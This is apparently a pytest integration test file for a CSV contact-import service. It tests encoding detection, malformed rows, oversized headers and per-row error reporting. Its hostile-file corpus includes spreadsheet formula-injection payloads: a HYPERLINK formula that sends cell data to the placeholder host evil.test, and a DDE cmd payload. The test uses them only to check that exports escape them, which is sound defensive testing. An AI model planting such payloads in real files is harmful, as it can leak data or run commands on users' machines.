"""CSV imports end to end on the local stack: upload, preview, confirm, split, ingest, report."""

from __future__ import annotations

import codecs
import csv
import io
import json
from typing import Any

import pytest
import requests
from aws_lambda_powertools.utilities.batch.exceptions import BatchProcessingError

from roster.identity.resolver import Resolution, Resolver
from roster.profiles.model import IncomingRecord
from roster.sources.csv_file import MAX_CELL_CHARS, MAX_COLUMNS
from roster.sources.csv_import import IngestMessage
from roster.store.imports import ImportStore
from roster.store.profiles import Conflict
from roster_dev.local.runner import Runner
from roster_dev.local.stack import LocalStack
from tests.conftest import Api, fill
from tests.integration.test_http_provider import Received, Reply, serve

MESSY = (
    "\ufeffE-mail;First Name;Title;LinkedIn;Notes\n"
    "ann@acme.com;Ann;CTO;;\n"
    " ANN@ACME.COM ;Ann;CTO;https://www.linkedin.com/in/ann-acme/;\n"
    'bob@acme.com;Bob;VP;;"two\nlines"\n'
    "not-an-email;Zed;;;\n"
    "carl@acme.com;Carl;CEO;;;;extra;values\n"
    ";Anna;;linkedin.com/in/ann-acme;\n"
)


def run_import(api: Api, csv_text: str, kind: str = "people", mapping: dict[str, Any] | None = None) -> dict[str, Any]:
    status, started = api.call("POST", f"/v1/{kind}/imports", {"source_name": "fair-2026", "content": csv_text})
    assert status == 201, started
    import_id = started["import_id"]
    confirmed = api.call("POST", f"/v1/{kind}/imports/{import_id}/confirm", {"mapping": mapping})
    assert confirmed[0] == 200, confirmed
    api.runner.drain()
    return api.call("GET", f"/v1/{kind}/imports/{import_id}")[1]  # type: ignore[no-any-return]


def test_preview_detects_format_and_maps_columns(api: Api) -> None:
    started = api.call("POST", "/v1/people/imports", {"source_name": "fair-2026", "content": MESSY})[1]
    status, preview = api.call("GET", f"/v1/people/imports/{started['import_id']}/preview")
    assert status == 200
    assert preview["delimiter"] == ";" and preview["encoding"] == "utf-8-sig"
    assert preview["columns"] == ["E-mail", "First Name", "Title", "LinkedIn", "Notes"]
    assert preview["mapping"]["E-mail"] == "email" and preview["mapping"]["LinkedIn"] == "linkedin_url"
    assert preview["rows"][2]["Notes"] == "two\nlines"


def test_messy_file_imports_with_every_bad_row_reported(api: Api) -> None:
    report = run_import(api, MESSY)
    assert report["status"] == "completed"
    assert report["rows_read"] == 6
    assert report["rows_rejected"] == 2
    errors = {error["line"]: error for error in report["errors"]}
    assert errors[6]["field"] == "email" and "not a valid e-mail" in errors[6]["reason"]
    assert "has 8 values but the header has 5 columns" in errors[7]["reason"]
    ann = api.call("GET", "/v1/people/lookup", email="ann@acme.com")[1]
    anna = api.call("GET", "/v1/people/lookup", linkedin_url="https://linkedin.com/in/ann-acme")[1]
    assert ann["profile_id"] == anna["profile_id"]  # same e-mail, then bridged by the LinkedIn URL
    bob = api.call("GET", "/v1/people/lookup", email="bob@acme.com")[1]
    assert bob["fields"]["notes"]["value"] == "two\nlines"


def test_reimporting_the_same_file_changes_nothing(api: Api) -> None:
    run_import(api, MESSY)
    again = run_import(api, MESSY)
    assert again["outcomes"]["created"] == 0
    assert again["outcomes"]["unchanged"] == 4


def test_custom_mapping_and_skipped_columns(api: Api) -> None:
    csv_text = "Company,Site,Staff,Internal\nAcme,https://acme.io,120,x\n"
    mapping = {"Company": "name", "Site": "website", "Staff": "employee_count", "Internal": None}
    report = run_import(api, csv_text, kind="companies", mapping=mapping)
    assert report["outcomes"]["created"] == 1
    company = api.call("GET", "/v1/companies/lookup", domain="acme.io")[1]
    assert company["fields"]["employee_count"]["value"] == 120
    assert "internal" not in company["fields"]


def test_bad_mappings_are_refused(api: Api) -> None:
    import_id = api.call("POST", "/v1/people/imports", {"source_name": "x", "content": "a,b\n1,2\n"})[1]["import_id"]
    status, body = api.call("POST", f"/v1/people/imports/{import_id}/confirm", {"mapping": {"zzz": "email"}})
    assert status == 422 and "zzz" in body["message"]
    status, body = api.call("POST", f"/v1/people/imports/{import_id}/confirm", {"mapping": {"a": "x", "b": "x"}})
    assert status == 422
    assert api.call("GET", "/v1/people/imports/01ARZ3NDEKTSV4RRFFQ69G5FAV")[0] == 404
    assert api.call("GET", f"/v1/companies/imports/{import_id}")[0] == 404


def test_upload_url_then_confirm(api: Api) -> None:
    status, started = api.call("POST", "/v1/people/imports", {"source_name": "big", "filename": "people.csv"})
    assert status == 201 and started["status"] == "awaiting_upload"
    assert api.call("GET", f"/v1/people/imports/{started['import_id']}/preview")[0] == 409
    upload = requests.put(started["upload_url"], data=b"email,name\nup@load.com,Up\n", timeout=10)
    assert upload.status_code == 200
    api.call("POST", f"/v1/people/imports/{started['import_id']}/confirm", {})
    api.runner.drain()
    report = api.call("GET", f"/v1/people/imports/{started['import_id']}")[1]
    assert report["status"] == "completed" and report["outcomes"]["created"] == 1
    listed = api.call("GET", "/v1/people/imports")[1]
    assert [job["import_id"] for job in listed] == [started["import_id"]]


def test_handlers_run_the_sample_events_and_redelivery_is_harmless(api: Api, runner: Runner, stack: LocalStack) -> None:
    import_id = api.call("POST", "/v1/people/imports", {"source_name": "ev", "content": "email\nev@acme.com\n"})[1][
        "import_id"
    ]
    api.call("GET", f"/v1/people/imports/{import_id}/preview")
    store = ImportStore()
    store.update(
        api.workspace,
        import_id,
        {
            "status": "queued",
            "dialect": {"encoding": "utf-8-sig", "delimiter": ","},
            "mapping": {"email": "email"},
            "observed_at": "2024-01-01T00:00:00.000000Z",
        },
    )
    event = fill("csv_import.json", workspace=api.workspace, import_id=import_id)
    assert runner.invoke("CsvImportFunction", event) == {"batchItemFailures": []}
    assert runner.invoke("CsvImportFunction", event) == {"batchItemFailures": []}  # redelivered: no second split
    assert store.get(api.workspace, import_id)["batches_total"] == 1  # type: ignore[index]

    sqs = stack.client("sqs")
    queued = sqs.receive_message(QueueUrl=stack.refs["IngestQueue"], MaxNumberOfMessages=10)["Messages"]
    assert len(queued) == 1
    message = IngestMessage.model_validate_json(queued[0]["Body"])
    sqs.delete_message(QueueUrl=stack.refs["IngestQueue"], ReceiptHandle=queued[0]["ReceiptHandle"])
    ingest = fill("ingest.json", workspace=api.workspace, import_id=import_id, key=message.key)
    assert runner.invoke("IngestFunction", ingest) == {"batchItemFailures": []}
    assert runner.invoke("IngestFunction", ingest) == {"batchItemFailures": []}
    report = api.call("GET", f"/v1/people/imports/{import_id}")[1]
    assert report["outcomes"] == {"created": 1, "updated": 0, "merged": 0, "unchanged": 0}  # counted once

    broken = fill("ingest.json", workspace=api.workspace, import_id=import_id, key="imports/missing.jsonl")
    with pytest.raises(BatchProcessingError):  # the whole batch failed: Lambda retries it, nothing is skipped
        runner.invoke("IngestFunction", broken)

    response = runner.invoke("ApiFunction", fill("api_upsert.json", api_key=api.key))
    body = json.loads(response["body"])
    assert response["statusCode"] == 200
    assert [result["outcome"] for result in body["results"]] == ["created", "updated"]
    assert runner.invoke("ApiFunction", fill("api_openapi.json"))["statusCode"] == 200


# --- hostile files ------------------------------------------------------------------------------------------


def upload(api: Api, data: bytes, kind: str = "people") -> str:
    """An import of `data` as the bytes of a file, through the upload URL (inline content is JSON text)."""
    status, started = api.call("POST", f"/v1/{kind}/imports", {"source_name": "hostile", "filename": "f.csv"})
    assert status == 201, started
    assert requests.put(started["upload_url"], data=data, timeout=30).status_code == 200
    return str(started["import_id"])


def import_bytes(api: Api, data: bytes) -> dict[str, Any]:
    import_id = upload(api, data)
    status, body = api.call("POST", f"/v1/people/imports/{import_id}/confirm", {})
    assert status == 200, body
    api.runner.drain()
    return api.call("GET", f"/v1/people/imports/{import_id}")[1]  # type: ignore[no-any-return]


PEOPLE_CSV = "email,name,title\nann@acme.com,Änn Åberg,CTO\nbob@acme.com,Bøb Ñúñez,VP 😀\n"
FORMULAS = {
    "f1@acme.com": '=HYPERLINK("http://evil.test/?d="&A1,"Open")',
    "f2@acme.com": "+cmd|' /C calc'!A0",
    "f3@acme.com": "-1+1",
    "f4@acme.com": "@SUM(A1:A9)",
}
HUGE = MAX_CELL_CHARS + 10
#: name → (file, rows read, lines rejected): every row is imported or rejected with its line, nothing else
CORPUS: dict[str, tuple[bytes, int, list[int]]] = {
    "utf-8 with BOM": (PEOPLE_CSV.encode("utf-8-sig"), 2, []),
    "utf-16 LE with BOM": (codecs.BOM_UTF16_LE + PEOPLE_CSV.encode("utf-16-le"), 2, []),
    "utf-16 BE with BOM": (codecs.BOM_UTF16_BE + PEOPLE_CSV.encode("utf-16-be"), 2, []),
    "utf-16 LE without BOM": (PEOPLE_CSV.encode("utf-16-le"), 2, []),
    "utf-32 with BOM": (PEOPLE_CSV.encode("utf-32"), 2, []),
    "windows-1252": ("email;name\nann@acme.com;José Zürich\n".encode("cp1252"), 1, []),
    "NUL bytes": (b"email,name\nann@acme.com,An\x00n\nbob@acme.com,\x00\n", 2, []),
    "mixed line endings": (b"email,name\r\nann@acme.com,Ann\nbob@acme.com,Bob\rcy@acme.com,Cy\r\n", 3, []),
    "quotes inside fields": (
        b'email,name,title\nann@acme.com,"Ann ""The Boss"" Lee","CTO, ""acting"""\nbob@acme.com,Bob "Bobby" B,VP\n',
        2,
        [],
    ),
    "unclosed quote": (b'email,name\nann@acme.com,"Ann\nbob@acme.com,Bob\ncy@acme.com,Cy\n', 3, [2]),
    "huge cell": (b"email,name\nann@acme.com," + b"x" * HUGE + b"\nbob@acme.com,Bob\n", 2, [2]),
    "long value": (b"email,notes\nann@acme.com," + b"y" * 20_000 + b"\nbob@acme.com,ok\n", 2, [2]),
    "many columns": (
        (",".join(["email", *(f"c{i}" for i in range(MAX_COLUMNS - 1))]) + "\nann@acme.com" + ",v" * 499).encode(),
        1,
        [],
    ),
    "formula cells": (
        (
            "email,title\n"
            + "".join(f'{email},"{text.replace(chr(34), chr(34) * 2)}"\n' for email, text in FORMULAS.items())
        ).encode(),
        4,
        [],
    ),
    "empty lines": (b"email,name\n\nann@acme.com,Ann\n\n\n,\nbob@acme.com,Bob\n\n", 2, []),
    "only a header": (b"email,name\n", 0, []),
    "trailing delimiter": (b"email,name,\nann@acme.com,Ann,\nbob@acme.com,Bob,,\n", 2, []),
    "undecodable bytes": (b"email,name\n" + b"a@acme.com,Ann\n" * 6000 + b"b@acme.com,Jos\xe9\n", 6001, [6002]),
    "too many values and no values": (b"email,name\nann@acme.com,Ann,extra\n,\n;;\n", 2, [2, 4]),
}


@pytest.mark.parametrize("name", CORPUS)
def test_hostile_files_import_or_report_every_row(api: Api, name: str) -> None:
    data, rows_read, rejected_lines = CORPUS[name]
    report = import_bytes(api, data)
    assert report["status"] == "completed", report
    imported = sum(report["outcomes"].values())
    assert report["rows_read"] == rows_read == imported + report["rows_rejected"], report
    assert [error["line"] for error in report["errors"]] == rejected_lines
    assert all(error["reason"] for error in report["errors"])


def test_unicode_files_are_read_as_the_text_they_hold(api: Api) -> None:
    for name in ("utf-16 LE with BOM", "utf-16 BE with BOM", "utf-32 with BOM", "utf-16 LE without BOM"):
        import_id = upload(api, CORPUS[name][0])
        preview = api.call("GET", f"/v1/people/imports/{import_id}/preview")[1]
        assert preview["encoding"].startswith(("utf-16", "utf-32")), preview
        assert preview["columns"] == ["email", "name", "title"]
        assert preview["rows"][1] == {"email": "bob@acme.com", "name": "Bøb Ñúñez", "title": "VP 😀"}
    import_bytes(api, CORPUS["utf-16 BE with BOM"][0])
    bob = api.call("GET", "/v1/people/lookup", email="bob@acme.com")[1]
    assert bob["fields"]["full_name"]["value"] == "Bøb Ñúñez"


def test_an_unclosed_quote_is_reported_and_the_rest_imports(api: Api) -> None:
    report = import_bytes(api, CORPUS["unclosed quote"][0])
    assert report["errors"] == [
        {
            "line": 2,
            "field": None,
            "reason": "has a quote that never closes (it opens on line 2; the file ends inside it)",
        }
    ]
    assert report["outcomes"]["created"] == 2
    assert api.call("GET", "/v1/people/lookup", email="cy@acme.com")[0] == 200


@pytest.mark.parametrize(
    ("header", "reason"),
    [
        ("email," + "x" * 70_000, "the header has 70,007 characters; at most 65,536 are read"),
        ("email," + "x" * 2_000_000, "the header is longer than 65,536 characters"),
        (",".join(f"c{i}" for i in range(MAX_COLUMNS + 1)), f"the header has {MAX_COLUMNS + 1} columns; at most"),
        ("email," + "n" * 300, "column 2's name has 300 characters; at most 256 are read"),
    ],
    ids=["header bytes", "header over the cell limit", "column count", "column name length"],
)
def test_an_oversized_header_is_refused_naming_the_limit(api: Api, header: str, reason: str) -> None:
    import_id = upload(api, f"{header}\nann@acme.com,Ann\n".encode())
    for method, path in (("GET", "preview"), ("POST", "confirm")):
        status, body = api.call(method, f"/v1/people/imports/{import_id}/{path}", {} if method == "POST" else None)
        assert status == 422 and body["error"] == "import_problem" and body["message"].startswith(reason), body
    assert api.call("GET", f"/v1/people/imports/{import_id}")[1]["rows_read"] == 0


def test_formula_cells_are_kept_as_given_and_exported_escaped(api: Api) -> None:
    report = import_bytes(api, CORPUS["formula cells"][0])
    assert report["outcomes"]["created"] == len(FORMULAS)
    for email, text in FORMULAS.items():  # stored as the text they are
        assert api.call("GET", "/v1/people/lookup", email=email)[1]["fields"]["job_title"]["value"] == text

    def echo(request: Received) -> Reply:
        return 200, {}, {"title": json.loads(request.body)["title"]}

    with serve() as vendor:
        vendor.reply = echo
        config = {
            "name": "echo",
            "method": "POST",
            "url": f"{vendor.url}/titles",
            "body": {"title": "{{job_title}}"},
            "inputs": ["job_title"],
            "outputs": {"vendor_title": {"path": "title"}},
        }
        body = {"name": "Echo", "providers": [{"type": "http", "config": config}], "audiences": ["all-people"]}
        status, definition = api.call("POST", "/v1/enrichments", {**body, "budget_credits": 10})
        assert status == 201, definition
        status, run = api.call("POST", f"/v1/enrichments/{definition['enrichment_id']}/runs")
        assert status == 202, run
        api.runner.drain()
    response = api.runner.api(
        "GET", f"/v1/enrichments/runs/{run['run_id']}/export", headers={"Authorization": f"Bearer {api.key}"}
    )
    assert response["statusCode"] == 200
    exported = sorted(row["vendor_title"] for row in csv.DictReader(io.StringIO(response["body"], newline="")))
    assert exported == sorted("'" + text for text in FORMULAS.values())


def test_a_row_too_large_to_store_is_rejected_and_the_rest_import(api: Api) -> None:
    wide = ",".join(["ok@acme.com", *("x" * 9_999 for _ in range(45))])  # ~450 KB: over a profile's size
    header = ",".join(["email", *(f"note_{n}" for n in range(45))])
    report = run_import(api, f"{header}\nfirst@acme.com\n{wide.replace('ok@', 'big@')}\nlast@acme.com\n")
    assert report["status"] == "completed", report
    assert report["batches_done"] == report["batches_total"] == 1
    assert report["rows_read"] == 3 and report["rows_rejected"] == 1
    assert report["outcomes"]["created"] == 2
    (error,) = report["errors"]
    assert error["line"] == 3 and "KB" in error["reason"], error
    for email in ("first@acme.com", "last@acme.com"):
        assert api.call("GET", "/v1/people/lookup", email=email)[0] == 200
    assert api.call("GET", "/v1/people/lookup", email="big@acme.com")[0] == 404


def test_a_row_that_keeps_conflicting_is_reported_on_the_last_attempt_and_the_import_finishes(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A batch whose one row always loses races (a hot profile) is retried as a whole; on its last delivery that
    row is reported with a reason and the others are stored, so the import completes rather than hang."""
    attempt = Resolver._attempt

    def losing(self: Resolver, record: IncomingRecord, aliases: list[str]) -> Resolution:
        if record.fields.get("email") == "hot@acme.com":
            raise Conflict("a concurrent writer won")
        return attempt(self, record, aliases)

    monkeypatch.setattr(Resolver, "_attempt", losing)
    report = run_import(api, "email,first_name\nfirst@acme.com,Ann\nhot@acme.com,Hot\nlast@acme.com,Lee\n")
    assert report["status"] == "completed", report
    assert report["rows_read"] == 3 and report["rows_rejected"] == 1
    (error,) = report["errors"]
    assert error["line"] == 3 and "concurrent writers" in error["reason"] and "again" in error["reason"], error
    for email in ("first@acme.com", "last@acme.com"):
        assert api.call("GET", "/v1/people/lookup", email=email)[0] == 200
    assert api.call("GET", "/v1/people/lookup", email="hot@acme.com")[0] == 404
